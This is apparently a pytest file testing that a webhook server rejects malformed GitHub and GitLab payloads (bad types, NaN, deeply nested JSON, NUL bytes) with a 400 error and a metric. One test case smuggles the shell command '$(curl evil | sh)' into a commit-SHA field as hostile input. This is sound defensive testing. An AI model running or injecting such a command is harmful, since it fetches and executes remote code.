"""Signed (authentic) deliveries whose payload is malformed get 400 with the reason, are
counted in `orchestrator_webhook_deliveries_total` with a `reason` label, and queue nothing;
never a 500. Payloads are the documented GitHub and GitLab examples with one field broken."""

from __future__ import annotations

import json
import uuid
from collections.abc import Callable
from typing import Any

import pytest
from starlette.testclient import TestClient

from orchestrator.server.app import Server
from orchestrator.server.payload import MAX_DEPTH
from tests.support.deliveries import SECRET, github_headers
from tests.support.webhooks import gitlab_example, webhook_examples


def github(event: str, action: str | None, change: Callable[[dict[str, Any]], None]) -> tuple[str, str, bytes]:
    _, payload = webhook_examples(event, action)[0]
    change(payload)
    return "github", event, json.dumps(payload).encode()


def branch_push(change: Callable[[dict[str, Any]], None]) -> tuple[str, str, bytes]:
    """GitHub's example of a push to a branch (the others push or delete a tag), changed."""
    payload = next(p for _, p in webhook_examples("push") if p["ref"].startswith("refs/heads/") and not p["deleted"])
    change(payload)
    return "github", "push", json.dumps(payload).encode()


def gitlab(name: str, event: str, change: Callable[[dict[str, Any]], None]) -> tuple[str, str, bytes]:
    payload = gitlab_example(name)
    change(payload)
    return "gitlab", event, json.dumps(payload).encode()


def raw(source: str, event: str, body: bytes) -> tuple[str, str, bytes]:
    return source, event, body


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def change(payload: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        target = payload
        for part in parents:
            target = target[part]
        target[last] = value

    return change


def _both(*changes: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], None]:
    def change(payload: dict[str, Any]) -> None:
        for one in changes:
            one(payload)

    return change


DEEP = b'{"action": "opened", "x": ' + b"[" * 50_000 + b"]" * 50_000 + b"}"
MALFORMED: dict[str, tuple[tuple[str, str, bytes], str, str]] = {
    # name: ((source, event, body), reason label, a fragment of the error)
    "ref: 5": (github("push", None, _set("ref", 5)), "bad_field", "malformed field"),
    "number: abc": (github("pull_request", "opened", _set("pull_request.number", "abc")), "bad_field", "malformed"),
    "number past 32 bits": (github("pull_request", "opened", _set("pull_request.number", 99999999999999999999)),
                            "bad_number", "64 bits"),
    "NaN": (raw("github", "pull_request", b'{"action": "opened", "number": NaN}'), "bad_number", "NaN"),
    "Infinity": (raw("gitlab", "Push Hook", b'{"object_kind": "push", "after": -Infinity}'), "bad_number",
                 "Infinity"),
    "1e400": (raw("github", "pull_request", b'{"action": "opened", "number": 1e400}'), "bad_number", "too large"),
    "50k-deep JSON": (raw("github", "pull_request", DEEP), "too_deep", f"deeper than {MAX_DEPTH}"),
    "65-deep JSON": (raw("github", "push", b'{"a": ' + b'{"a": ' * 64 + b"1" + b"}" * 65), "too_deep", "deeper"),
    "head sha is a number": (github("pull_request", "opened", _set("pull_request.head.sha", 12345)), "bad_field",
                             "commit SHA"),
    "pull_request: null": (github("pull_request", "opened", _set("pull_request", None)), "missing_field", "lacks"),
    "after is not a SHA": (branch_push(_set("after", "$(curl evil | sh)")), "bad_field", "commit SHA"),
    "NUL in a ref": (github("push", None, _set("ref", "refs/heads/main\u0000x")), "bad_string", "NUL"),
    "lone surrogate": (raw("github", "push", b'{"ref": "refs/heads/\\ud800"}'), "bad_string", "surrogate"),
    "comment on pull request number -1": (
        github("issue_comment", "created", _both(_set("issue.number", -1), _set("issue.pull_request", {"url": "x"}),
                                                 _set("comment.body", "/orchestrator preview"))),
        "bad_field", "whole number"),
    "not an object": (raw("github", "push", b"[1, 2]"), "not_object", "not an object"),
    "not JSON": (raw("gitlab", "Push Hook", b"{'ref': 5}"), "not_json", "not JSON"),
    "GitLab iid: abc": (gitlab("merge_request", "Merge Request Hook", _set("object_attributes.iid", "abc")),
                        "bad_field", "malformed field"),
    "GitLab iid: 1e400": (raw("gitlab", "Merge Request Hook",
                              b'{"object_kind": "merge_request", "object_attributes": {"iid": 1e400}}'),
                          "bad_number", "too large"),
    "GitLab object_attributes: []": (gitlab("merge_request", "Merge Request Hook", _set("object_attributes", [])),
                                     "bad_field", "malformed field"),
    "GitLab note on merge_request: null": (gitlab("note_merge_request", "Note Hook", _set("merge_request", None)),
                                           "bad_field", "malformed field"),
    "GitLab push ref: [x]": (gitlab("push", "Push Hook", _set("ref", ["x"])), "bad_field", "the ref must be a name"),
    "GitLab branch with a newline": (gitlab("push", "Push Hook", _set("ref", "refs/heads/a\nb")), "bad_field",
                                     "printable"),
}


def deliver(client: TestClient, source: str, event: str, body: bytes) -> Any:
    if source == "github":
        return client.post("/webhooks/github", content=body, headers=github_headers(event, body))
    return client.post("/webhooks/gitlab", content=body, headers={
        "Content-Type": "application/json", "X-Gitlab-Event": event, "X-Gitlab-Token": SECRET.decode(),
        "X-Gitlab-Event-UUID": str(uuid.uuid4())})


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_signed_malformed_payload_gets_400_with_the_reason(client: TestClient, server: Server, name: str) -> None:
    (source, event, body), reason, fragment = MALFORMED[name]
    answer = deliver(client, source, event, body)

    assert answer.status_code == 400, (answer.status_code, answer.text)
    assert fragment in answer.json()["error"], answer.json()
    assert server.queue.counts().get("queued", 0) == 0
    metrics = client.get("/metrics").text
    line = f'orchestrator_webhook_deliveries_total{{outcome="malformed",reason="{reason}",source="{source}"}} 1.0'
    assert line in metrics, [m for m in metrics.splitlines() if "deliveries_total{" in m]


def test_the_documented_examples_still_queue(client: TestClient) -> None:
    """Not vacuous: the unbroken examples pass the same checks."""
    (source, event, body) = github("pull_request", "opened", lambda payload: None)
    assert deliver(client, source, event, body).json()["status"] in ("queued", "ignored")
    (source, event, body) = gitlab("merge_request", "Merge Request Hook", lambda payload: None)
    assert deliver(client, source, event, body).status_code == 202


@pytest.mark.parametrize("page", ["99999999999999999999", "0", "-1", "²", "1e9", "abc"])
def test_the_dashboards_page_number_is_checked(client: TestClient, page: str) -> None:
    answer = client.get("/runs", params={"page": page})
    assert answer.status_code == 400, answer.text
    assert "page must be a whole number from 1 to 1,000,000" in answer.text
